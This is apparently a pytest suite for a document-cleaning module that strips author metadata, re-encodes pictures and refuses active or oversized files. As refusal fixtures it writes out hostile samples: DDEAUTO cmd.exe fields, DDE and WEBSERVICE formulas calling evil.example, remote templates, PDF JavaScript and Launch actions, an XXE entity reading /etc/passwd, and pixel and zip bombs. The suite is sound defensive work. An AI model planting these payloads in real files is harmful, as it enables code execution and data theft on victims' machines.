"""Files that are published or come from a denouncer say nothing of who made them, where and with
what; files that run, fetch or hold other files are refused; pictures are written anew.
"""

import io
import re
import zipfile
import zlib

import pytest
from PIL import Image

from danchu.kernel.refusals import Refused
from danchu.papers.answers import ending_of, offered_name
from danchu.papers.cleaning.cleaned import cleaned
from danchu.papers.cleaning.pdf_syntax import objects_of
from danchu.papers.cleaning.reasons import Reason, Unfit
from danchu.papers.media import ALLOWED
from danchu.papers.screening import screen_file
from danchu.register.imports import reading
from tests.inspection.pictures import jpeg, png
from tests.papers import samples
from tests.papers.samples import MARK, TEXT, docx, ods, odt, pdf, relations, xlsx

OFFICE = {"docx": "open_xml", "xlsx": "open_xml", "odt": "open_document", "ods": "open_document"}


def seen(content):
    """All bytes that a reader of a file can come to, everything decompressed."""
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as pack:
            return b"\n".join(name.encode() + b"\n" + pack.read(name) for name in pack.namelist())
    texts = [content]
    for match in re.finditer(rb"stream\r?\n(.*?)\nendstream", content, re.S):
        try:
            texts.append(zlib.decompress(match[1]))
        except zlib.error:
            texts.append(match[1])
    return b"\n".join(texts)


def clean(content, kind):
    return cleaned(kind)(content, True)


def refusal(content, kind, is_anonymous=False):
    with pytest.raises(Unfit) as error:
        cleaned(kind)(content, is_anonymous)
    return error.value.reason


@pytest.mark.case("FA7", "SE-M5", "FA8")
@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (docx(), "open_xml"),
        (xlsx(), "open_xml"),
        (odt(), "open_document"),
        (ods(), "open_document"),
        (pdf(), "pdf"),
        (pdf(is_packed=True), "pdf"),
    ],
    ids=["docx", "xlsx", "odt", "ods", "pdf", "pdf of 1.5"],
)
def test_a_document_tells_its_text_and_not_its_author(content, kind):
    assert MARK.encode() in seen(content)
    once = clean(content, kind)
    words = seen(once)
    assert TEXT.encode() in words and b"Xem lai" in words
    for trace in (MARK, "NVT", "00AB12CD", "Máy ảnh", "Trần Thị Tám", "2026-01-02"):
        assert trace.encode() not in words, trace
    assert clean(once, kind) == once


@pytest.mark.case("FA7", "SE-M5")
@pytest.mark.parametrize(
    ("make", "name", "other"),
    [
        (samples.docx_parts, "docProps/core.xml", "DocProps/Core.XML"),
        (samples.docx_parts, "word/people.xml", "Word/People.xml"),
        (samples.docx_parts, "word/media/image1.jpeg", "word/Media/image1.jpeg"),
        (samples.xlsx_parts, "docProps/core.xml", "DOCPROPS/core.xml"),
        (samples.xlsx_parts, "xl/comments1.xml", "XL/Comments1.xml"),
        (
            samples.xlsx_parts,
            "xl/printerSettings/printerSettings1.bin",
            "xl/PrinterSettings/printersettings1.bin",
        ),
    ],
)
def test_a_part_under_other_capitals_tells_nobody_either(make, name, other):
    """Names of parts that differ in case only are one (ECMA-376 part 2, 6.2.2.3)."""
    parts = {other if one == name else one: part for one, part in make().items()}
    assert MARK.encode() not in seen(clean(samples.archive(parts), "open_xml"))


@pytest.mark.case("FA7", "FA34")
@pytest.mark.parametrize("make", [jpeg, png])
def test_a_picture_is_written_anew_without_its_tags_and_with_its_pixels(make):
    sent = make() + b"<script>alert(1)</script>PK\x05\x06" + bytes(18)
    picture = Image.open(io.BytesIO(clean(sent, "picture")))
    before = Image.open(io.BytesIO(make()))
    assert picture.size == before.size and picture.mode == before.mode
    assert b"<script>" not in clean(sent, "picture")
    tags = picture.getexif()
    assert set(tags) <= {0x0112} and not tags.get_ifd(0x8825)
    assert "comment" not in picture.info and "icc_profile" not in picture.info
    pairs = zip(before.convert("RGB").getdata(), picture.convert("RGB").getdata(), strict=True)
    assert max(abs(a - b) for one, other in pairs for a, b in zip(one, other, strict=True)) <= 24


@pytest.mark.case("FA34")
def test_a_photo_of_a_round_keeps_its_day_and_place_and_nothing_else():
    tags = Image.open(io.BytesIO(cleaned("picture")(jpeg(), False))).getexif()
    assert tags.get_ifd(0x8825) and tags.get_ifd(0x8769)
    assert 0x013B not in tags and 0x010F not in tags


@pytest.mark.case("FA34")
@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"\xff\xd8\xff\xe0<html><script>alert(1)</script></html>", Reason.BROKEN),
        (jpeg(tagged=False)[:-40], Reason.BROKEN),
        (png()[: len(png()) // 2], Reason.BROKEN),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(20) + b"IEND\xaeB`\x82", Reason.BROKEN),
    ],
)
def test_what_is_no_whole_picture_is_refused(content, reason):
    assert refusal(content, "picture") == reason


def huge_png():
    """40,000 × 40,000 pixels in some bytes."""

    def chunk(kind, body):
        return (
            len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")
        )

    side = (40_000).to_bytes(4, "big")
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", side + side + b"\x01\x00\x00\x00\x00")
        + chunk(b"IDAT", zlib.compress(bytes(5001) * 40))
        + chunk(b"IEND", b"")
    )


@pytest.mark.case("FA34")
def test_a_picture_of_too_many_pixels_is_refused_in_words():
    assert refusal(huge_png(), "picture") == Reason.PIXELS
    with pytest.raises(Refused, match="50 triệu điểm ảnh"):
        screen_file(io.BytesIO(huge_png()), "a.png")


def huge_gif():
    side = (60_000).to_bytes(2, "little")
    frame = b"," + bytes(4) + side + side + b"\0\x02\x02\x44\x01\0"
    return b"GIF89a" + side + side + b"\0\0\0" + frame + b";"


def huge_bmp():
    head = (40).to_bytes(4, "little") + (40_000).to_bytes(4, "little") * 2
    head += b"\1\0\1\0" + bytes(24) + bytes(8)
    return b"BM" + bytes(8) + (62).to_bytes(4, "little") + head


@pytest.mark.case("FA34")
@pytest.mark.parametrize("make", [huge_png, huge_gif, huge_bmp])
@pytest.mark.parametrize(
    ("document", "kind", "folder"),
    [
        (docx, "open_xml", "word/media"),
        (xlsx, "open_xml", "xl/media"),
        (odt, "open_document", "Pictures"),
        (ods, "open_document", "Pictures"),
    ],
)
def test_a_document_with_such_a_picture_is_refused_too(make, document, kind, folder):
    ending = make.__name__.removeprefix("huge_")
    content = document(**{f"{folder}/image7.{ending}": make()})
    assert refusal(content, kind) == refusal(content, kind, is_anonymous=True) == Reason.PIXELS


@pytest.mark.case("FA34")
@pytest.mark.parametrize(
    ("width", "height", "rest"),
    [
        (1, 50_000_001, b"\x01\0\0\0\0"),
        (2**31 - 1, 1, b"\x01\0\0\0\0"),
        (40_000, 40_000, b"\x01\0\0\0\x01"),  # interlaced
        (9_000, 9_000, b"\x10\x06\0\0\0"),  # eight bytes a pixel
    ],
)
def test_pixels_are_counted_before_any_of_them_is_decoded(width, height, rest):
    body = width.to_bytes(4, "big") + height.to_bytes(4, "big") + rest
    sent = png()
    at = sent.index(b"IHDR")
    checked = b"IHDR" + body
    head = sent[:at] + checked + zlib.crc32(checked).to_bytes(4, "big")
    assert refusal(head + sent[at + 21 :], "picture") == Reason.PIXELS


@pytest.mark.case("FA34")
def test_a_file_is_offered_with_an_ending_of_its_type():
    for media in ALLOWED:
        assert ending_of(media.name) == f".{media.endings[0]}"
        for ending in media.endings:
            assert offered_name(f"a.{ending.upper()}", media.name) == f"a.{ending.upper()}"
        assert offered_name("a.php", media.name) == f"a.php.{media.endings[0]}"


@pytest.mark.parametrize("kind", ["open_xml", "open_document"])
def test_a_picture_in_a_document_that_cannot_be_cleaned_is_refused_only_where_it_must_be(kind):
    name = "word/media/image2.emf" if kind == "open_xml" else "Pictures/2.emf"
    content = docx(**{name: b"\x01\0\0\0"}) if kind == "open_xml" else odt(**{name: b"\x01\0\0\0"})
    assert cleaned(kind)(content, False) == b""
    assert refusal(content, kind, is_anonymous=True) == Reason.UNCLEAN


W = samples.WORD
ACTIVE_DOCX = {
    "vba": {"word/vbaProject.bin": "x"},
    "vba under another name": {
        "word/media/a.bin": b"\xd0\xcf\x11\xe0",
        "word/_rels/document.xml.rels": relations(
            ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "media/a.bin")
        ),
    },
    "vba under the name of a picture": {"word/media/a.png": b"\xd0\xcf\x11\xe0"},
    "type of a macro": {
        "[Content_Types].xml": samples.types(
            word__document="application/vnd.ms-word.document.macroEnabled.main+xml"
        )
    },
    "remote template": {
        "word/_rels/settings.xml.rels": relations(
            ("attachedTemplate", "https://evil.example/a.dotm", "External")
        )
    },
    "remote picture": {
        "word/_rels/document.xml.rels": relations(
            ("image", "https://evil.example/a.png", "External")
        )
    },
    "link to a share": {
        "word/_rels/document.xml.rels": relations(
            ("hyperlink", "file://evil.example/a", "External")
        )
    },
    "script in a link": {
        "word/_rels/document.xml.rels": relations(("hyperlink", "javascript:alert(1)", "External"))
    },
    "OLE object": {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
    "control": {"word/activeX/activeX1.xml": "<a/>"},
    "program": {"word/media/a.jpeg": b"MZ\x90\x00"},
    "remote template under capitals": {
        "word/_rels/settings.xml.RELS": relations(
            ("attachedTemplate", "https://evil.example/a.dotm", "External")
        )
    },
    "field under capitals": {
        "Word/header1.XML": f'<w:hdr xmlns:w="{samples.WORD}"><w:instrText>DDEAUTO cmd'
        "</w:instrText></w:hdr>"
    },
    "other document": {
        "word/_rels/document.xml.rels": relations(("aFChunk", "afchunk.mht")),
    },
}


@pytest.mark.case("SE-M6")
@pytest.mark.parametrize("more", ACTIVE_DOCX.values(), ids=ACTIVE_DOCX)
def test_an_active_docx_is_refused(more):
    assert refusal(docx(**more), "open_xml") == Reason.ACTIVE


FIELDS = {
    "plain": '<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k"</w:instrText></w:r>',
    "in pieces": "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E</w:instrText></w:r>",
    "simple": '<w:fldSimple w:instr=" IncludePicture http://evil.example/a"/>',
    "written by a field": '<w:fldChar w:fldCharType="begin"/><w:instrText> </w:instrText>'
    '<w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText>',
}


@pytest.mark.case("SE-M6")
@pytest.mark.parametrize("field", FIELDS.values(), ids=FIELDS)
def test_a_field_that_fetches_or_starts_something_is_refused(field):
    assert refusal(docx(f"<w:p>{field}</w:p>"), "open_xml") == Reason.ACTIVE


ACTIVE_XLSX = {
    "sheet of macros": xlsx(**{"xl/macrosheets/sheet1.xml": "<a/>"}),
    "relationship of macros": xlsx(
        **{
            "xl/_rels/workbook.xml.rels": relations(
                (
                    "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
                    "worksheets/sheet2.xml",
                )
            )
        }
    ),
    "DDE": xlsx(**{"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}),
    "connection": xlsx(**{"xl/_rels/workbook.xml.rels": relations(("connections", "c.xml"))}),
    "service": xlsx('_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)'),
    "service in references": xlsx("&#87;EBSERVICE (A1)"),
    "command": xlsx("cmd|'/c calc'!A0"),
    "service in CDATA": xlsx('<![CDATA[WEBSERVICE("http://evil.example/")]]>'),
    "service cut by a comment": xlsx('WEB<!-- -->SERVICE("http://evil.example/")'),
    "service behind an attribute": xlsx(
        **{
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{samples.CELLS}"><sheetData><row><c>'
            '<f ca="/>">WEB<![CDATA[SERVICE]]>("http://evil.example/")</f></c></row></sheetData>'
            "</worksheet>"
        }
    ),
    "service under a prefix": xlsx(
        **{
            "xl/worksheets/sheet1.xml": f'<x-1:worksheet xmlns:x-1="{samples.CELLS}">'
            "<x-1:f>WEBSERVICE(A1)</x-1:f></x-1:worksheet>"
        }
    ),
    "service in a validation": xlsx(
        **{
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{samples.CELLS}"><dataValidations>'
            "<dataValidation><formula1>WEBSERVICE(A1)</formula1></dataValidation>"
            "</dataValidations></worksheet>"
        }
    ),
    "service in a table": xlsx(
        **{
            "xl/tables/table1.xml": f'<table xmlns="{samples.CELLS}"><calculatedColumnFormula>'
            "WEBSERVICE(A1)</calculatedColumnFormula></table>"
        }
    ),
    "service under capitals": xlsx(
        **{
            "XL/WorkSheets/sheet2.xml": f'<worksheet xmlns="{samples.CELLS}"><f>WEBSERVICE(A1)</f>'
            "</worksheet>"
        }
    ),
}


@pytest.mark.case("SE-M6")
@pytest.mark.parametrize("content", ACTIVE_XLSX.values(), ids=ACTIVE_XLSX)
def test_an_active_xlsx_is_refused(content):
    assert refusal(content, "open_xml") == Reason.ACTIVE


ACTIVE_ODF = {
    "Basic": ods(**{"Basic/Standard/Module1.xml": "<a/>"}),
    "Python": ods(**{"Scripts/python/a.py": "import os"}),
    "event": odt('<text:p><script:event-listener script:language="ooo:script"/></text:p>'),
    "script": odt('<script:script script:language="x"/>'),
    "DDE": ods("<table:dde-link/>"),
    "formula": ods('<table:table-cell table:formula="of:=DDE(&quot;a&quot;;1;2)"/>'),
    "linked section": odt('<text:section-source xlink:href="https://evil.example/a.odt"/>'),
    "remote picture": odt('<draw:image xlink:href="https://evil.example/a.png"/>'),
    "embedded program": odt('<draw:object-ole xlink:href="./Object 1"/>'),
    "macro in a link": odt('<text:a xlink:href="vnd.sun.star.script:a$b?language=Python"/>'),
}


@pytest.mark.case("SE-M6")
@pytest.mark.parametrize("content", ACTIVE_ODF.values(), ids=ACTIVE_ODF)
def test_an_active_open_document_is_refused(content):
    assert refusal(content, "open_document") == Reason.ACTIVE


ACTIVE_PDF = {
    "script": pdf(["<</S/JavaScript/JS(app.alert(1))>>"]),
    "script with an escape": pdf(["<</S/Java#53cript/J#53(app.alert(1))>>"]),
    "script in an object stream": pdf(["<</S/JavaScript/JS(app.alert(1))>>"], is_packed=True),
    "script at opening": pdf(catalog="/OpenAction<</S/JavaScript/JS(1)>>"),
    "program": pdf(["<</S/Launch/F(cmd.exe)>>"]),
    "file": pdf(["<</Type/EmbeddedFile/Length 1>>\nstream\nx\nendstream"]),
    "names of files": pdf(catalog="/Names<</EmbeddedFiles<</Names[]>>>>"),
    "form that sends": pdf(["<</S/SubmitForm/F(https://evil.example/)>>"]),
    "XFA": pdf(catalog="/AcroForm<</XFA[]>>"),
    "hidden in a stream": pdf(
        ["<</Length 44>>\nstream\n9 0 obj<</S/JavaScript/J#53(1)>>endobj\nendstream"]
    ),
}


@pytest.mark.case("SE-M6")
@pytest.mark.parametrize("content", ACTIVE_PDF.values(), ids=ACTIVE_PDF)
def test_an_active_pdf_is_refused(content):
    assert refusal(content, "pdf") == Reason.ACTIVE


def test_ordinary_documents_are_stored_as_they_are():
    for content, kind in (
        (docx(), "open_xml"),
        (xlsx(), "open_xml"),
        (odt(), "open_document"),
        (pdf(catalog="/OpenAction[3 0 R/Fit]"), "pdf"),
    ):
        assert cleaned(kind)(content, False) == b""


def test_a_locked_pdf_is_refused_and_an_earlier_version_of_an_object_is_gone():
    assert refusal(pdf(trailer="/Encrypt 9 0 R"), "pdf") == Reason.LOCKED
    later = pdf() + b"4 0 obj\n<</Length 2>>\nstream\nBT\nendstream\nendobj\n%%EOF\n"
    assert TEXT.encode() not in seen(clean(later, "pdf"))
    assert len(objects_of(clean(later, "pdf"))[0]) < len(objects_of(later)[0])


@pytest.mark.parametrize("kind", ["open_xml", "open_document"])
def test_an_archive_that_programs_read_differently_is_refused(kind):
    content = docx() if kind == "open_xml" else odt()
    assert refusal(content + b"behind", kind) == Reason.BROKEN
    assert refusal(b"before" + content, kind) == Reason.BROKEN
    twice = io.BytesIO(content)
    with zipfile.ZipFile(twice, "a") as pack, pytest.warns(UserWarning):
        pack.writestr("word/document.xml" if kind == "open_xml" else "content.xml", "<a/>")
    assert refusal(twice.getvalue(), kind) == Reason.BROKEN


def test_an_entity_is_not_followed():
    evil = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    assert refusal(docx(**{"word/document.xml": evil}), "open_xml") == Reason.BROKEN


def test_a_file_that_kills_its_process_is_refused_in_words(monkeypatch):
    from danchu.papers import screening

    monkeypatch.setattr(screening, "MOST_BYTES", 1024 * 1024)
    with pytest.raises(Refused, match="quá lớn"):
        screen_file(io.BytesIO(docx("x" * 8_000_000)), "a.docx")


@pytest.mark.case("FA37")
def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_read(monkeypatch):
    monkeypatch.setattr(reading, "_sheet", lambda file: pytest.fail("its rows were read"))
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as pack:
        for name, part in samples.xlsx_parts().items():
            if name != "xl/worksheets/sheet1.xml":
                pack.writestr(name, part)
        with pack.open("xl/worksheets/sheet1.xml", "w") as part:
            for _number in range(170):
                part.write(b"<row/>  " * (1024 * 1024 // 8))
    assert len(file.getvalue()) < 3_000_000
    with pytest.raises(Refused, match="mở ra quá lớn"):
        list(reading.read_rows(file, "viec.xlsx"))
